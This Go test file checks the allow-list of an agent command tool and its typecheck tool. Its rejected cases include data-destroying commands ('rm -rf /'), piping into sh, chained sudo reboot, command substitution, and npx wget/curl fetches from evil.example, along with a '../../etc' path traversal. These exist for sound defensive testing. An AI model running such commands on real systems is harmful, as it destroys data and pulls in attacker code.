package tool

import (
	"context"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"toolgov/internal/config"
)

func testCommandConfig() config.CommandConfig {
	cfg := config.Defaults().Command
	cfg.AllowedPrefixes = append(cfg.AllowedPrefixes, "echo", "sleep", "printf")
	return cfg
}

func TestCommandTool_CheckCommand(t *testing.T) {
	tool := NewCommandTool(t.TempDir(), testCommandConfig())

	cases := []struct {
		command string
		ok      bool
	}{
		{"npm run format", false},
		{"npm run lint", true},
		{"git status", true},
		{"ls -la", true},
		{"cat server/index.ts | grep app", true},
		{"lsof -i", false},
		{"python script.py", false},
		{"ls; rm -rf /", false},
		{"ls && echo hi", false},
		{"echo $(whoami)", false},
		{"echo hi > out.txt", false},
		{"cat file | sh", false},
		{"npm run rm", false},
		{"git log && sudo reboot", false},
		{"find . -exec rm {}", false},
		{"npx wget-improved http://evil.example/x", false},
		{"npx curl-cli http://evil.example", false},
		{"npx rm-cli src", false},
		{"npx CURL http://evil.example", false},
		{"", false},
	}
	for _, c := range cases {
		err := tool.CheckCommand(c.command)
		if c.ok && err != nil {
			t.Errorf("CheckCommand(%q) rejected: %v", c.command, err)
		}
		if !c.ok && err == nil {
			t.Errorf("CheckCommand(%q) should be rejected", c.command)
		}
	}
}

func TestCommandTool_BlockedTermInsideWord(t *testing.T) {
	tool := NewCommandTool(t.TempDir(), testCommandConfig())
	err := tool.CheckCommand("npx wget-improved http://evil.example/x")
	if err == nil || !strings.Contains(err.Error(), "wget") {
		t.Fatalf("expected wget to be blocked, got %v", err)
	}
}

func TestCommandTool_RejectsBeforeRunning(t *testing.T) {
	tool := NewCommandTool(t.TempDir(), testCommandConfig())
	res, err := tool.Execute(context.Background(), map[string]any{"command": "python -c 1"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Success {
		t.Fatal("expected rejection")
	}
	if !strings.Contains(res.Error, "not allowed") {
		t.Fatalf("expected allow-list message, got %q", res.Error)
	}
}

func TestCommandTool_Executes(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("sh not available")
	}
	tool := NewCommandTool(t.TempDir(), testCommandConfig())
	res, err := tool.Execute(context.Background(), map[string]any{"command": "echo hello"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Success {
		t.Fatalf("expected success, got %q", res.Error)
	}
	data := res.Data.(map[string]any)
	if !strings.Contains(data["output"].(string), "hello") {
		t.Fatalf("unexpected output %q", data["output"])
	}
	if data["truncated"] != false {
		t.Fatal("short output must not be truncated")
	}
}

func TestCommandTool_OutputTruncated(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("sh not available")
	}
	cfg := testCommandConfig()
	cfg.MaxOutputBytes = 10
	tool := NewCommandTool(t.TempDir(), cfg)
	res, _ := tool.Execute(context.Background(), map[string]any{"command": "echo 0123456789abcdefghij"})
	if !res.Success {
		t.Fatalf("expected success, got %q", res.Error)
	}
	data := res.Data.(map[string]any)
	if got := data["output"].(string); len(got) != 10 {
		t.Fatalf("expected 10 bytes of output, got %d", len(got))
	}
	if data["truncated"] != true {
		t.Fatal("expected truncated flag")
	}
}

func TestCommandTool_TimeoutIsCappedAndReported(t *testing.T) {
	if _, err := exec.LookPath("sleep"); err != nil {
		t.Skip("sleep not available")
	}
	cfg := testCommandConfig()
	cfg.MaxTimeoutMs = 200
	tool := NewCommandTool(t.TempDir(), cfg)
	res, _ := tool.Execute(context.Background(), map[string]any{"command": "sleep 5", "timeout": 600000.0})
	if res.Success {
		t.Fatal("expected timeout failure")
	}
	if !strings.Contains(res.Error, "timeout of 200ms") {
		t.Fatalf("expected capped timeout in message, got %q", res.Error)
	}
}

func TestCommandTool_NonZeroExitFails(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("sh not available")
	}
	tool := NewCommandTool(t.TempDir(), testCommandConfig())
	res, _ := tool.Execute(context.Background(), map[string]any{"command": "ls does-not-exist"})
	if res.Success {
		t.Fatal("expected failure for non-zero exit")
	}
	if res.Data.(map[string]any)["exitCode"] == 0 {
		t.Fatal("expected non-zero exit code in data")
	}
}

func TestParseDiagnostics(t *testing.T) {
	out := strings.Join([]string{
		"server/routes.ts(12,5): error TS2322: Type 'string' is not assignable to type 'number'.",
		"some unrelated line",
		"client/src/App.tsx(3,10): error TS2307: Cannot find module './x'.",
		"Found 2 errors.",
	}, "\n")
	diags := ParseDiagnostics(out)
	if len(diags) != 2 {
		t.Fatalf("expected 2 diagnostics, got %d", len(diags))
	}
	d := diags[0]
	if d.File != "server/routes.ts" || d.Line != 12 || d.Column != 5 || d.Code != "TS2322" {
		t.Fatalf("unexpected diagnostic %+v", d)
	}
	if !strings.HasPrefix(d.Message, "Type 'string'") {
		t.Fatalf("unexpected message %q", d.Message)
	}
	if diags[1].File != "client/src/App.tsx" {
		t.Fatalf("unexpected file %q", diags[1].File)
	}
}

func TestTypeCheckTool_FailingCheckerIsSuccessEnvelope(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("sh not available")
	}
	cfg := testCommandConfig()
	cfg.TypecheckCommand = []string{"sh", "-c", "echo \"a.ts(1,2): error TS1005: ';' expected.\"; exit 2"}
	cfg.TypecheckTimeoutSec = 10
	tool := NewTypeCheckTool(t.TempDir(), cfg)
	res, err := tool.Execute(context.Background(), map[string]any{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Success {
		t.Fatalf("failed checks are reported as data, got error %q", res.Error)
	}
	data := res.Data.(map[string]any)
	if data["passed"] != false {
		t.Fatal("expected passed=false")
	}
	diags := data["errors"].([]Diagnostic)
	if len(diags) != 1 || diags[0].Code != "TS1005" {
		t.Fatalf("unexpected diagnostics %+v", diags)
	}
}

func TestTypeCheckTool_PathConfined(t *testing.T) {
	tool := NewTypeCheckTool(t.TempDir(), testCommandConfig())
	res, _ := tool.Execute(context.Background(), map[string]any{"path": "../../etc"})
	if res.Success {
		t.Fatal("expected path outside the project to be refused")
	}
}

func TestTypeCheckTool_PathPassedAsArgument(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("sh not available")
	}
	root := t.TempDir()
	writeProjectFile(t, root, "server/index.ts", "export {}\n")
	cfg := testCommandConfig()
	// Echo the checked path and the working directory, then fail so the output is returned.
	cfg.TypecheckCommand = []string{"sh", "-c", `printf '%s|%s' "$1" "$(pwd)"; exit 1`, "tsc"}
	cfg.TypecheckTimeoutSec = 10
	tool := NewTypeCheckTool(root, cfg)

	res, err := tool.Execute(context.Background(), map[string]any{"path": "server/index.ts"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Success {
		t.Fatalf("expected the checker to run, got %q", res.Error)
	}
	output := res.Data.(map[string]any)["output"].(string)
	arg, dir, _ := strings.Cut(output, "|")
	if arg != "server/index.ts" {
		t.Fatalf("checked path = %q, want server/index.ts", arg)
	}
	if filepath.Base(dir) != filepath.Base(root) {
		t.Fatalf("checker ran in %q, want the project root", dir)
	}
}
